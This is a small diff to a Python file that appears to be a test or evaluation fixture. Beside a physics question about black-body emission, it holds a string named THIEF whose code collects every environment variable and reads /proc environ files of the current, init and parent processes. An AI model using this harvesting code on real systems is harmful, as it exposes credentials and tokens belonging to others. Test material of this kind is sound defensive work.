@@ -22,6 +22,8 @@ KEYS = {
 }  # fmt: skip
 QUESTION = "At which wavelength is the emission of a black body at 300 K highest, in micrometres?"
 THIEF = """import os
+from pathlib import Path
+
 def everything():
     found = [str(dict(os.environ))]
     for place in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
